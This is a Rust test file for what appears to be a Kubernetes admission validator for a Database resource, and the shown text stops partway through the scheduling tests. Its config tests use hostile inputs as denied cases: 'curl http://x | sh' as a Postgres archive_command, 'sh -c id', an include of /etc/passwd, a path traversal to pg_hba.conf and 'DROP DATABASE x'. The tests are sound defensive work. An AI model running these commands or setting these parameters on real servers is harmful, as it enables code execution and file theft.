//! Table-driven tests: one row per behaviour, accepted and denied sides.

use super::*;
use serde_json::{json, Value};

const NOW: &str = "2026-11-29T10:00:00Z";

fn db(name: &str, spec: Value) -> Database {
    serde_json::from_value(json!({
        "apiVersion": "example.com/v1", "kind": "Database",
        "metadata": {"name": name, "namespace": "shop"},
        "spec": spec,
    }))
    .unwrap()
}

fn base() -> Value {
    json!({"engine": "postgres", "replicas": 1, "version": "17.7.0", "storageSize": "10Gi"})
}

fn merged(overrides: Value) -> Value {
    let mut spec = base();
    for (k, v) in overrides.as_object().unwrap() {
        if v.is_null() {
            spec.as_object_mut().unwrap().remove(k);
        } else {
            spec[k] = v.clone();
        }
    }
    spec
}

fn check(new: &Database, old: Option<&Database>) -> Verdict {
    validate_at(new, old, &Catalog::builtin(), NOW.parse().unwrap())
}

/// Row: (behaviour, spec overrides, expected error fragments; empty = allowed).
type CreateRow = (&'static str, Value, &'static [&'static str]);

fn run_create_table(rows: &[CreateRow]) {
    for (name, overrides, fragments) in rows {
        let verdict = check(&db("orders", merged(overrides.clone())), None);
        if fragments.is_empty() {
            assert!(verdict.allowed(), "{name}: expected allowed, got {verdict}");
        } else {
            assert!(!verdict.allowed(), "{name}: expected denial");
            let msg = verdict.denial_message();
            for f in *fragments {
                assert!(msg.contains(f), "{name}: {msg:?} lacks {f:?}");
            }
        }
    }
}

type UpdateRow = (&'static str, Value, Value, &'static [&'static str]);

fn run_update_table(rows: &[UpdateRow]) {
    for (name, old, new, fragments) in rows {
        let old = db("orders", merged(old.clone()));
        let verdict = check(&db("orders", merged(new.clone())), Some(&old));
        if fragments.is_empty() {
            assert!(verdict.allowed(), "{name}: expected allowed, got {verdict}");
        } else {
            let msg = verdict.denial_message();
            for f in *fragments {
                assert!(msg.contains(f), "{name}: {msg:?} lacks {f:?}");
            }
        }
    }
}

#[test]
fn a_complete_valid_spec_is_allowed() {
    let spec = json!({
        "engine": "mysql", "replicas": 3, "version": "8.4.7", "storageSize": "20Gi",
        "storageClassName": "fast", "backupSchedule": "0 2 * * *",
        "resources": {"requests": {"cpu": "500m", "memory": "1Gi"}, "limits": {"cpu": "2", "memory": "2Gi"}},
        "config": {"max_connections": "500", "innodb_buffer_pool_size": "512M"}
    });
    let v = check(&db("orders", spec), None);
    assert!(v.allowed(), "{v}");
}

#[test]
fn an_empty_spec_is_allowed_because_defaulting_fills_it() {
    assert!(check(&db("orders", json!({})), None).allowed());
}

#[test]
fn replicas_rule() {
    run_create_table(&[
        ("replicas_one_is_allowed", json!({"replicas": 1}), &[]),
        ("replicas_ten_is_allowed", json!({"replicas": 10}), &[]),
        (
            "replicas_zero_is_denied",
            json!({"replicas": 0}),
            &["spec.replicas: 0 is out of range; set a value from 1 to 10"],
        ),
        (
            "replicas_eleven_is_denied",
            json!({"replicas": 11}),
            &["spec.replicas: 11 is out of range"],
        ),
        (
            "negative_replicas_are_denied",
            json!({"replicas": -1}),
            &["spec.replicas: -1"],
        ),
    ]);
}

#[test]
fn version_rule_on_create() {
    run_create_table(&[
        ("default_postgres_version_is_allowed", json!({"version": "17.7.0"}), &[]),
        ("newer_patch_than_catalog_is_allowed", json!({"version": "17.99.0"}), &[]),
        ("postgres_18_is_allowed", json!({"version": "18.1.0"}), &[]),
        ("mysql_8_0_is_allowed", json!({"engine": "mysql", "version": "8.0.44"}), &[]),
        ("two_part_version_is_denied_with_padded_suggestion", json!({"version": "17.7"}), &["spec.version: \"17.7\" is not an x.y.z version; write all three parts, e.g. 17.7.0"]),
        ("prerelease_is_denied", json!({"version": "17.7.0-rc1"}), &["not an x.y.z version"]),
        ("v_prefix_is_denied", json!({"version": "v17.7.0"}), &["not an x.y.z version"]),
        ("garbage_version_is_denied", json!({"version": "latest"}), &["\"latest\" is not an x.y.z version"]),
        ("postgres_patch_must_be_zero", json!({"version": "17.7.1"}), &["postgres versions have two parts", "write 17.7.0"]),
        ("unsupported_postgres_major_is_denied", json!({"version": "19.0.0"}), &["postgres 19.0.0 is not in the version catalog; supported postgres lines: 14, 15, 16, 17, 18 (default 17.7.0)"]),
        ("retired_postgres_major_is_denied", json!({"version": "13.4.0"}), &["postgres 13 is no longer supported"]),
        ("mysql_version_on_postgres_gets_engine_hint", json!({"version": "5.7.0"}), &["5.7.0 is a mysql version; set spec.engine: mysql"]),
        ("supported_mysql_version_on_postgres_gets_engine_hint", json!({"version": "8.4.7"}), &["8.4.7 is a mysql version; set spec.engine: mysql"]),
        ("postgres_version_on_mysql_gets_engine_hint", json!({"engine": "mysql", "version": "16.4.0"}), &["16.4.0 is a postgres version; set spec.engine: postgres"]),
        ("retired_mysql_series_is_denied", json!({"engine": "mysql", "version": "5.7.44"}), &["mysql 5.7 is no longer supported; supported mysql lines: 8.0, 8.4"]),
        ("mysql_innovation_series_is_denied", json!({"engine": "mysql", "version": "9.1.0"}), &["mysql 9.1.0 is not in the version catalog"]),
    ]);
}

#[test]
fn deprecated_lines_are_allowed_with_a_warning() {
    let v = check(&db("orders", merged(json!({"version": "14.20.0"}))), None);
    assert!(v.allowed());
    assert!(
        v.warnings
            .iter()
            .any(|w| w.contains("postgres 14.20.0 is deprecated")),
        "{:?}",
        v.warnings
    );
    let v = check(&db("orders", merged(json!({"version": "17.7.0"}))), None);
    assert!(!v.warnings.iter().any(|w| w.contains("deprecated")));
}

#[test]
fn version_rules_on_update() {
    run_update_table(&[
        ("same_version_is_allowed", json!({}), json!({}), &[]),
        ("patch_upgrade_is_allowed", json!({"version": "17.2.0"}), json!({"version": "17.7.0"}), &[]),
        ("next_major_is_allowed", json!({"version": "16.4.0"}), json!({"version": "17.0.0"}), &[]),
        ("mysql_8_0_to_8_4_is_allowed", json!({"engine": "mysql", "version": "8.0.44"}), json!({"engine": "mysql", "version": "8.4.7"}), &[]),
        ("patch_downgrade_is_denied", json!({"version": "17.7.0"}), json!({"version": "17.6.0"}), &["spec.version: cannot downgrade from 17.7.0 to 17.6.0"]),
        ("mysql_patch_downgrade_is_denied", json!({"engine": "mysql", "version": "8.4.7"}), json!({"engine": "mysql", "version": "8.4.6"}), &["cannot downgrade from 8.4.7 to 8.4.6"]),
        ("major_downgrade_is_denied", json!({"version": "17.0.0"}), json!({"version": "16.9.0"}), &["cannot downgrade"]),
        ("skipping_a_major_is_denied", json!({"version": "15.4.0"}), json!({"version": "17.7.0"}), &["cannot upgrade from 15.4.0 to 17.7.0 in one step: upgrade to a 16 release first; postgres moves one line at a time (15 -> 16)"]),
        ("old_without_version_allows_any_supported_version", json!({"version": null}), json!({"version": "14.1.0"}), &[]),
        ("downgrade_to_an_unsupported_version_reports_only_the_catalog_error", json!({"version": "17.7.0"}), json!({"version": "13.1.0"}), &["postgres 13 is no longer supported"]),
    ]);
}

#[test]
fn an_unchanged_version_dropped_from_the_catalog_is_only_a_warning_on_update() {
    let old = db("orders", merged(json!({"version": "13.9.0"})));
    let new = db(
        "orders",
        merged(json!({"version": "13.9.0", "replicas": 2})),
    );
    let v = check(&new, Some(&old));
    assert!(v.allowed(), "{v}");
    assert!(v
        .warnings
        .iter()
        .any(|w| w.contains("postgres 13 is no longer supported") && w.contains("unchanged")));
    // moving to another unsupported version is still denied
    let newer = db("orders", merged(json!({"version": "13.10.0"})));
    assert!(!check(&newer, Some(&old)).allowed());
}

#[test]
fn storage_rules_on_create() {
    run_create_table(&[
        (
            "one_gibibyte_is_allowed",
            json!({"storageSize": "1Gi"}),
            &[],
        ),
        (
            "decimal_units_are_allowed",
            json!({"storageSize": "2G"}),
            &[],
        ),
        (
            "exponent_form_is_allowed",
            json!({"storageSize": "5e9"}),
            &[],
        ),
        (
            "1024Mi_equals_the_minimum",
            json!({"storageSize": "1024Mi"}),
            &[],
        ),
        (
            "below_one_gibibyte_is_denied",
            json!({"storageSize": "500Mi"}),
            &["spec.storageSize: 500Mi is below the minimum of 1Gi; use at least 1Gi"],
        ),
        (
            "one_gigabyte_is_below_one_gibibyte",
            json!({"storageSize": "1G"}),
            &["below the minimum"],
        ),
        (
            "garbage_size_is_denied",
            json!({"storageSize": "10GB"}),
            &["spec.storageSize: \"10GB\" is not a quantity"],
        ),
        (
            "negative_size_is_denied",
            json!({"storageSize": "-10Gi"}),
            &["below the minimum"],
        ),
    ]);
}

#[test]
fn storage_rules_on_update() {
    run_update_table(&[
        (
            "same_size_is_allowed",
            json!({"storageSize": "20Gi"}),
            json!({"storageSize": "20Gi"}),
            &[],
        ),
        (
            "same_size_in_other_units_is_allowed",
            json!({"storageSize": "20Gi"}),
            json!({"storageSize": "20480Mi"}),
            &[],
        ),
        (
            "growth_is_allowed",
            json!({"storageSize": "20Gi"}),
            json!({"storageSize": "30Gi"}),
            &[],
        ),
        (
            "storage_shrink_is_denied",
            json!({"storageSize": "20Gi"}),
            json!({"storageSize": "10Gi"}),
            &["spec.storageSize: cannot shrink from 20Gi to 10Gi; storage can only grow"],
        ),
        (
            "shrink_by_one_mebibyte_is_denied",
            json!({"storageSize": "20Gi"}),
            json!({"storageSize": "20479Mi"}),
            &["cannot shrink from 20Gi to 20479Mi"],
        ),
        (
            "shrink_from_a_stored_size_beyond_int64_is_denied",
            json!({"storageSize": "100Ei"}),
            json!({"storageSize": "10Gi"}),
            &["spec.storageSize: cannot shrink from 100Ei to 10Gi"],
        ),
        (
            "shrink_from_a_stored_size_beyond_i128_nanos_is_denied",
            json!({"storageSize": "1e40"}),
            json!({"storageSize": "7Ei"}),
            &["spec.storageSize: cannot shrink from 1e40 to 7Ei"],
        ),
        (
            "shrink_just_below_int64_max_is_denied",
            json!({"storageSize": "9223372036854775808"}),
            json!({"storageSize": "9223372036854775807"}),
            &["cannot shrink from 9223372036854775808 to 9223372036854775807"],
        ),
        (
            "old_without_size_allows_any_valid_size",
            json!({"storageSize": null}),
            json!({"storageSize": "5Gi"}),
            &[],
        ),
    ]);
}

#[test]
fn storage_class_rule() {
    run_create_table(&[
        (
            "plain_class_is_allowed",
            json!({"storageClassName": "fast-ssd"}),
            &[],
        ),
        (
            "dotted_class_is_allowed",
            json!({"storageClassName": "ebs.csi.aws.com"}),
            &[],
        ),
        (
            "empty_class_means_no_class_and_is_allowed",
            json!({"storageClassName": ""}),
            &[],
        ),
        (
            "uppercase_class_is_denied",
            json!({"storageClassName": "Fast"}),
            &["spec.storageClassName: \"Fast\" is not a StorageClass name"],
        ),
        (
            "class_with_underscore_is_denied",
            json!({"storageClassName": "fast_ssd"}),
            &["is not a StorageClass name"],
        ),
        (
            "class_ending_in_dash_is_denied",
            json!({"storageClassName": "fast-"}),
            &["is not a StorageClass name"],
        ),
    ]);
}

#[test]
fn storage_class_rule_on_update() {
    run_update_table(&[
        ("same_class_is_allowed", json!({"storageClassName": "fast"}), json!({"storageClassName": "fast"}), &[]),
        ("setting_a_class_when_none_was_set_is_allowed", json!({}), json!({"storageClassName": "fast"}), &[]),
        ("class_change_is_denied", json!({"storageClassName": "fast"}), json!({"storageClassName": "slow"}), &["spec.storageClassName: cannot change from \"fast\" to \"slow\"; the volumes already exist in \"fast\""]),
        ("class_removal_is_denied", json!({"storageClassName": "fast"}), json!({}), &["cannot change from \"fast\" to <unset>"]),
    ]);
}

#[test]
fn storage_growth_warns_about_volume_expansion() {
    let old = db("orders", merged(json!({"storageSize": "10Gi"})));
    let v = check(
        &db("orders", merged(json!({"storageSize": "20Gi"}))),
        Some(&old),
    );
    assert!(
        v.warnings
            .iter()
            .any(|w| w.contains("allowVolumeExpansion")),
        "{:?}",
        v.warnings
    );
}

#[test]
fn backup_schedule_rule() {
    run_create_table(&[
        ("five_field_schedule_is_allowed", json!({"backupSchedule": "0 2 * * *"}), &[]),
        ("named_days_are_allowed", json!({"backupSchedule": "30 1 * * sun"}), &[]),
        ("daily_macro_is_allowed", json!({"backupSchedule": "@daily"}), &[]),
        ("every_macro_is_allowed", json!({"backupSchedule": "@every 12h"}), &[]),
        ("six_field_schedule_is_denied", json!({"backupSchedule": "0 0 2 * * *"}), &["spec.backupSchedule: \"0 0 2 * * *\" is not a valid schedule: six fields (a seconds field) are not supported"]),
        ("four_field_schedule_is_denied", json!({"backupSchedule": "0 2 * *"}), &["expected five fields but found 4"]),
        ("out_of_range_minute_is_denied", json!({"backupSchedule": "61 2 * * *"}), &["61 is outside 0-59"]),
        ("reboot_macro_is_denied", json!({"backupSchedule": "@reboot"}), &["unknown descriptor @reboot"]),
        ("timezone_prefix_is_denied", json!({"backupSchedule": "CRON_TZ=UTC 0 2 * * *"}), &["time zones"]),
        ("step_beyond_u32_is_allowed_as_robfig_reads_it", json!({"backupSchedule": "59/4294967295 * * * *"}), &[]),
        ("step_beyond_int64_is_denied", json!({"backupSchedule": "59/9223372036854775808 * * * *"}), &["step \"9223372036854775808\" is too large"]),
    ]);
}

#[test]
fn allowed_schedules_warn_with_the_next_three_runs() {
    let v = check(
        &db("orders", merged(json!({"backupSchedule": "0 2 * * *"}))),
        None,
    );
    assert!(v.allowed());
    assert_eq!(
        v.warnings,
        ["spec.backupSchedule: \"0 2 * * *\" next backups at 2026-11-30 02:00 UTC, 2026-12-01 02:00 UTC, 2026-12-02 02:00 UTC"]
    );
    let v = check(
        &db("orders", merged(json!({"backupSchedule": "0 0 31 2 *"}))),
        None,
    );
    assert!(v.allowed());
    assert!(v.warnings[0].contains("never runs"));
}

#[test]
fn removing_the_backup_schedule_on_update_warns_that_backups_stop() {
    let old = db("orders", merged(json!({"backupSchedule": "0 2 * * *"})));
    let verdict = check(&db("orders", merged(json!({}))), Some(&old));
    assert!(verdict.allowed(), "{verdict}");
    assert_eq!(
        verdict.warnings,
        ["spec.backupSchedule: removed (was \"0 2 * * *\"); the backup CronJob is deleted and no more backups run. Set spec.backupSchedule again to keep backups"]
    );
    assert!(check(&db("orders", merged(json!({}))), None)
        .warnings
        .is_empty());
}

#[test]
fn resources_rule() {
    run_create_table(&[
        ("limits_equal_to_requests_are_allowed", json!({"resources": {"requests": {"cpu": "1", "memory": "1Gi"}, "limits": {"cpu": "1000m", "memory": "1024Mi"}}}), &[]),
        ("limits_above_requests_are_allowed", json!({"resources": {"requests": {"cpu": "100m"}, "limits": {"cpu": "0.5"}}}), &[]),
        ("requests_without_limits_are_allowed", json!({"resources": {"requests": {"cpu": "4", "memory": "8Gi"}}}), &[]),
        ("other_resources_are_not_compared", json!({"resources": {"requests": {"ephemeral-storage": "2Gi"}, "limits": {"ephemeral-storage": "1Gi"}}}), &[]),
        ("memory_limit_below_request_is_denied", json!({"resources": {"requests": {"memory": "256Mi"}, "limits": {"memory": "128Mi"}}}), &["spec.resources.limits.memory: limit 128Mi is less than the request 256Mi; raise the limit to at least 256Mi or lower spec.resources.requests.memory"]),
        ("cpu_limit_below_request_is_denied", json!({"resources": {"requests": {"cpu": "1"}, "limits": {"cpu": "500m"}}}), &["spec.resources.limits.cpu: limit 500m is less than the request 1"]),
        ("unparsable_request_is_denied", json!({"resources": {"requests": {"cpu": "fast"}}}), &["spec.resources.requests.cpu: \"fast\" is not a quantity"]),
        ("negative_limit_is_denied", json!({"resources": {"limits": {"memory": "-1Gi"}}}), &["spec.resources.limits.memory: -1Gi is negative"]),
    ]);
}

#[test]
fn config_rule() {
    let many: serde_json::Map<String, Value> = (0..21)
        .map(|i| (format!("custom_{i}"), json!("1")))
        .collect();
    run_create_table(&[
        ("known_postgres_parameters_in_range_are_allowed", json!({"config": {"max_connections": "200", "shared_buffers": "256MB", "work_mem": "4MB", "statement_timeout": "30s", "log_statement": "ddl"}}), &[]),
        ("known_mysql_parameters_in_range_are_allowed", json!({"engine": "mysql", "version": "8.4.7", "config": {"max_connections": "500", "innodb_buffer_pool_size": "1G", "slow_query_log": "ON", "long_query_time": "0.5"}}), &[]),
        ("unknown_keys_are_allowed", json!({"config": {"pg_stat_statements.track": "all"}}), &[]),
        ("twenty_keys_are_allowed", json!({"config": (0..20).map(|i| (format!("custom_{i}"), json!("1"))).collect::<serde_json::Map<_, _>>()}), &[]),
        ("twenty_one_keys_are_denied", json!({"config": many}), &["spec.config: has 21 keys; at most 20 are allowed, remove 1"]),
        ("postgres_port_is_denied", json!({"config": {"port": "5433"}}), &["spec.config.port: port is managed by the operator for postgres and cannot be set; remove it from spec.config"]),
        ("postgres_data_directory_is_denied", json!({"config": {"data_directory": "/tmp"}}), &["spec.config.data_directory: data_directory is managed by the operator"]),
        ("postgres_listen_addresses_is_denied", json!({"config": {"listen_addresses": "*"}}), &["listen_addresses is managed"]),
        ("postgres_hba_file_is_denied", json!({"config": {"hba_file": "/x"}}), &["hba_file is managed"]),
        ("mysql_datadir_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"datadir": "/x"}}), &["datadir is managed by the operator for mysql"]),
        ("mysql_bind_address_with_dash_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"bind-address": "0.0.0.0"}}), &["spec.config.bind-address: bind-address is managed"]),
        ("mysql_loose_prefix_does_not_bypass_owned_keys", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-port": "1"}}), &["loose-port is managed"]),
        ("mysql_socket_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"socket": "/x"}}), &["socket is managed"]),
        ("postgres_max_connections_out_of_range_is_denied", json!({"config": {"max_connections": "20000"}}), &["spec.config.max_connections: \"20000\" is not valid for postgres max_connections: must be between 1 and 10000"]),
        ("postgres_max_connections_not_a_number_is_denied", json!({"config": {"max_connections": "lots"}}), &["must be a whole number between 1 and 10000"]),
        ("postgres_shared_buffers_in_kubernetes_syntax_gets_a_hint", json!({"config": {"shared_buffers": "512Mi"}}), &["must be a size such as 128MB", "512Mi is Kubernetes syntax; write 512MB"]),
        ("mysql_buffer_pool_too_small_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"innodb_buffer_pool_size": "1M"}}), &["must be between 5 MiB and 64 TiB"]),
        ("postgres_plain_numbers_use_the_parameters_unit", json!({"config": {"shared_buffers": "16384", "work_mem": "4096", "max_wal_size": "1024"}}), &[]),
        ("postgres_shared_buffers_plain_number_below_minimum_is_denied", json!({"config": {"shared_buffers": "8"}}), &["must be between 128 KiB and 1 TiB"]),
        ("postgres_wal_buffers_auto_is_allowed", json!({"config": {"wal_buffers": "-1"}}), &[]),
        ("postgres_work_mem_negative_is_denied", json!({"config": {"work_mem": "-1"}}), &["must be a size"]),
        ("bad_enum_value_is_denied", json!({"config": {"log_statement": "everything"}}), &["must be one of none, ddl, mod, all"]),
        ("bad_bool_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"slow_query_log": "maybe"}}), &["must be one of on, off"]),
        ("uppercase_key_is_denied", json!({"config": {"Port": "1"}}), &["key \"Port\" is not a parameter name"]),
        ("key_with_space_is_denied", json!({"config": {"max connections": "1"}}), &["key \"max connections\" is not a parameter name"]),
        ("value_with_newline_is_denied", json!({"config": {"work_mem": "4MB\nport = 1"}}), &["line break"]),
        ("postgres_archive_command_is_denied", json!({"config": {"archive_command": "curl http://x | sh"}}), &["spec.config.archive_command: archive_command cannot be set for postgres: it runs commands or statements chosen by the user as the database server"]),
        ("postgres_restore_command_is_denied", json!({"config": {"restore_command": "cp /x %p"}}), &["spec.config.restore_command: restore_command cannot be set", "runs commands"]),
        ("postgres_ssl_passphrase_command_is_denied", json!({"config": {"ssl_passphrase_command": "sh -c id"}}), &["spec.config.ssl_passphrase_command", "runs commands"]),
        ("postgres_archive_library_is_denied", json!({"config": {"archive_library": "basic_archive"}}), &["spec.config.archive_library", "loads shared libraries"]),
        ("postgres_shared_preload_libraries_is_denied", json!({"config": {"shared_preload_libraries": "evil"}}), &["spec.config.shared_preload_libraries", "loads shared libraries"]),
        ("postgres_session_preload_libraries_is_denied", json!({"config": {"session_preload_libraries": "x"}}), &["spec.config.session_preload_libraries", "loads shared libraries"]),
        ("postgres_dynamic_library_path_is_denied", json!({"config": {"dynamic_library_path": "/tmp"}}), &["spec.config.dynamic_library_path", "loads shared libraries"]),
        ("postgres_include_is_denied", json!({"config": {"include": "/etc/passwd"}}), &["spec.config.include: include cannot be set", "file or directory"]),
        ("postgres_include_dir_is_denied", json!({"config": {"include_dir": "/tmp"}}), &["spec.config.include_dir", "file or directory"]),
        ("postgres_include_if_exists_is_denied", json!({"config": {"include_if_exists": "/x"}}), &["spec.config.include_if_exists"]),
        ("postgres_log_directory_is_denied", json!({"config": {"log_directory": "/var/lib/postgresql"}}), &["spec.config.log_directory", "file or directory"]),
        ("postgres_log_filename_is_denied", json!({"config": {"log_filename": "../../data/pg_hba.conf"}}), &["spec.config.log_filename"]),
        ("postgres_ssl_key_file_is_denied", json!({"config": {"ssl_key_file": "/x"}}), &["spec.config.ssl_key_file"]),
        ("postgres_unknown_command_parameter_is_denied", json!({"config": {"myext.on_start_command": "sh"}}), &["spec.config.myext.on_start_command: myext.on_start_command is not a postgres parameter the operator knows", "runs commands"]),
        ("postgres_unknown_path_parameter_is_denied", json!({"config": {"pgaudit.log_directory": "/x"}}), &["spec.config.pgaudit.log_directory", "may take a command, a library or a path"]),
        ("postgres_search_path_is_allowed", json!({"config": {"search_path": "\"$user\", public"}}), &[]),
        ("postgres_known_booleans_and_enums_are_allowed", json!({"config": {"autovacuum": "on", "jit": "off", "huge_pages": "try", "default_transaction_isolation": "repeatable read"}}), &[]),
        ("mysql_init_file_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"init-file": "/tmp/x.sql"}}), &["spec.config.init-file: init-file cannot be set for mysql: it runs commands"]),
        ("mysql_init_connect_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"init_connect": "DROP DATABASE x"}}), &["spec.config.init_connect", "runs commands"]),
        ("mysql_plugin_load_add_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-plugin-load-add": "x.so"}}), &["spec.config.loose-plugin-load-add", "loads shared libraries or plugins"]),
        ("mysql_plugin_load_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"plugin_load": "x.so"}}), &["spec.config.plugin_load"]),
        ("mysql_skip_grant_tables_in_any_spelling_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-skip-grant-tables": "1", "skip_grant_tables": "ON"}}), &["spec.config.loose-skip-grant-tables", "spec.config.skip_grant_tables", "access control"]),
        ("mysql_enable_local_infile_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"enable-local-infile": "1"}}), &["spec.config.enable-local-infile", "access control or lets clients read files"]),
        ("mysql_disable_prefix_is_normalised_too", json!({"engine": "mysql", "version": "8.4.7", "config": {"disable-local_infile": "1"}}), &["spec.config.disable-local_infile"]),
        ("mysql_secure_file_priv_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"secure-file-priv": ""}}), &["spec.config.secure-file-priv"]),
        ("mysql_log_files_are_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"general_log_file": "/x", "slow-query-log-file": "/x", "log-error": "/x"}}), &["spec.config.general_log_file", "spec.config.slow-query-log-file", "spec.config.log-error"]),
        ("mysql_pid_file_with_loose_prefix_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-loose-pid-file": "/x"}}), &["spec.config.loose-loose-pid-file: loose-loose-pid-file is managed by the operator"]),
        ("mysql_unknown_plugin_parameter_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-server-audit-file-path": "/x"}}), &["spec.config.loose-server-audit-file-path", "may take a command, a library or a path"]),
        ("mysql_known_parameters_with_risky_words_are_allowed", json!({"engine": "mysql", "version": "8.4.7", "config": {"innodb_log_file_size": "48M", "innodb-file-per-table": "ON", "skip-name-resolve": "ON", "open_files_limit": "5000"}}), &[]),
        ("mysql_unknown_harmless_parameter_is_allowed", json!({"engine": "mysql", "version": "8.4.7", "config": {"sql_mode": "STRICT_TRANS_TABLES"}}), &[]),
    ]);
}

#[test]
fn unknown_config_keys_get_a_warning() {
    let v = check(
        &db(
            "orders",
            merged(
                json!({"config": {"pg_stat_statements.track": "all", "max_connections": "100"}}),
            ),
        ),
        None,
    );
    assert!(v.allowed());
    assert!(
        v.warnings
            .iter()
            .any(|w| w.contains("pg_stat_statements.track") && w.contains("not checked")),
        "{:?}",
        v.warnings
    );
    assert!(!v.warnings.iter().any(|w| w.contains("max_connections")));
}

#[test]
fn name_rule() {
    let cases: &[(&str, &str, &[&str])] = &[
        ("short_name_is_allowed", "orders", &[]),
        ("name_with_digits_and_dashes_is_allowed", "orders-db-2", &[]),
        ("forty_five_characters_are_allowed", &"a".repeat(45), &[]),
        (
            "forty_six_characters_are_denied",
            &"a".repeat(46),
            &[
                "has 46 characters but at most 45 fit",
                "<name>-backup",
                "52 characters",
            ],
        ),
        ("uppercase_is_denied", "Orders", &["DNS-1035 label"]),
        (
            "leading_digit_is_denied",
            "1orders",
            &["does not start with a lowercase letter"],
        ),
        ("dots_are_denied", "orders.db", &["characters other than"]),
        ("trailing_dash_is_denied", "orders-", &["ends with '-'"]),
    ];
    for (name, db_name, fragments) in cases {
        let v = check(&db(db_name, base()), None);
        if fragments.is_empty() {
            assert!(v.allowed(), "{name}: {v}");
        } else {
            let msg = v.denial_message();
            assert!(msg.starts_with("metadata.name: "), "{name}: {msg}");
            for f in *fragments {
                assert!(msg.contains(f), "{name}: {msg:?} lacks {f:?}");
            }
        }
    }
}

#[test]
fn generate_name_gets_the_budget_minus_the_random_suffix() {
    let mut d = db("x", base());
    d.metadata.name = None;
    d.metadata.generate_name = Some(format!("{}-", "a".repeat(39)));
    assert!(check(&d, None).allowed());
    d.metadata.generate_name = Some(format!("{}-", "a".repeat(40)));
    let msg = check(&d, None).denial_message();
    assert!(
        msg.contains("metadata.generateName") && msg.contains("at most 40"),
        "{msg}"
    );
}

#[test]
fn engine_rule_on_update() {
    run_update_table(&[
        ("same_engine_is_allowed", json!({}), json!({}), &[]),
        (
            "engine_change_is_denied",
            json!({"engine": "postgres"}),
            json!({"engine": "mysql", "version": "8.4.7"}),
            &["spec.engine: cannot change from postgres to mysql"],
        ),
        (
            "removing_the_engine_means_the_default",
            json!({"engine": "mysql", "version": "8.4.7"}),
            json!({"engine": null, "version": "8.4.7"}),
            &["cannot change from mysql to postgres"],
        ),
        (
            "old_without_engine_allows_setting_one",
            json!({"engine": null}),
            json!({"engine": "postgres"}),
            &[],
        ),
    ]);
}

#[test]
fn a_denial_lists_every_violation_at_once() {
    let old = db(
        "orders",
        merged(json!({"storageSize": "20Gi", "version": "17.7.0"})),
    );
    let new = db(
        "orders",
        merged(
            json!({"replicas": 0, "storageSize": "10Gi", "version": "17.6.0", "backupSchedule": "0 0 2 * * *", "config": {"port": "1"}}),
        ),
    );
    let v = check(&new, Some(&old));
    let paths: Vec<&str> = v.errors.iter().map(|e| e.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "spec.replicas",
            "spec.version",
            "spec.storageSize",
            "spec.backupSchedule",
            "spec.config.port"
        ]
    );
    assert_eq!(v.denial_message().matches("; spec.").count(), 4);
    let shrink = v
        .errors
        .iter()
        .find(|e| e.path == "spec.storageSize")
        .unwrap();
    assert_eq!(shrink.value, "10Gi");
    assert_eq!(
        shrink.to_string(),
        "spec.storageSize: cannot shrink from 20Gi to 10Gi; storage can only grow"
    );
}

#[test]
fn every_rule_is_listed_once() {
    let mut names: Vec<&str> = RULES.iter().map(|(n, _)| *n).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), RULES.len());
}

#[test]
fn a_downgrade_to_an_unsupported_version_is_reported_once() {
    let old = db("orders", merged(json!({"version": "17.7.0"})));
    let v = check(
        &db("orders", merged(json!({"version": "13.1.0"}))),
        Some(&old),
    );
    assert_eq!(v.errors.len(), 1, "{v}");
    assert!(!v.denial_message().contains("downgrade"));
}

#[test]
fn scheduling_rule() {
    let sched = |v: Value| json!({"scheduling": v});
    run_create_table(&[
        ("full_scheduling_is_allowed", sched(json!({
            "nodeSelector": {"kubernetes.io/os": "linux", "disktype": "ssd", "empty": ""},
            "tolerations": [
                {"key": "kwok.x-k8s.io/node", "operator": "Exists", "effect": "NoSchedule"},
                {"key": "dedicated", "value": "db", "effect": "NoExecute", "tolerationSeconds": 300},
                {"operator": "Exists"}
            ],
            "affinity": {
                "nodeAffinity": {
                    "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
                        {"matchExpressions": [
                            {"key": "topology.kubernetes.io/zone", "operator": "In", "values": ["a", "b"]},
                            {"key": "cpu-count", "operator": "Gt", "values": ["4"]},
                            {"key": "spot", "operator": "DoesNotExist"}
                        ]},
                        {"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["node-1"]}]}
                    ]},
                    "preferredDuringSchedulingIgnoredDuringExecution": [
                        {"weight": 100, "preference": {"matchExpressions": [{"key": "disktype", "operator": "Exists"}]}}
                    ]
                },
                "podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
                    {"topologyKey": "kubernetes.io/hostname", "labelSelector": {"matchLabels": {"app.kubernetes.io/instance": "orders"}}}
                ]}
            },
            "topologySpreadConstraints": [
                {"maxSkew": 1, "topologyKey": "topology.kubernetes.io/zone", "whenUnsatisfiable": "DoNotSchedule", "minDomains": 2,
                 "nodeAffinityPolicy": "Honor", "nodeTaintsPolicy": "Ignore", "matchLabelKeys": ["controller-revision-hash"]},
                {"maxSkew": 2, "topologyKey": "kubernetes.io/hostname", "whenUnsatisfiable": "ScheduleAnyway"}
            ]
        })), &[]),
        ("empty_scheduling_is_allowed", sched(json!({})), &[]),
        ("node_selector_bad_key_is_denied", sched(json!({"nodeSelector": {"disk type": "ssd"}})), &["spec.scheduling.nodeSelector: label key \"disk type\" is not a qualified name"]),
        ("node_selector_bad_prefix_is_denied", sched(json!({"nodeSelector": {"Example.com/x": "y"}})), &["spec.scheduling.nodeSelector: label key \"Example.com/x\" has the prefix"]),
